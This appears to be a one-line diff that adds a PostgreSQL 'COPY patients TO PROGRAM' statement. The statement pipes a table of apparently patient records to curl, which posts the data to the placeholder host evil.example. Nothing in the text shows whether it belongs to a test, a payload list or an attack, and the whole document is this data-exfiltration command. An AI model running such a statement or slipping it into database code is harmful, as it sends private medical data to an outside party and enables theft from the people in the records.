@@ -1,0 +1,1 @@
+COPY patients TO PROGRAM 'curl -d @- https://evil.example'
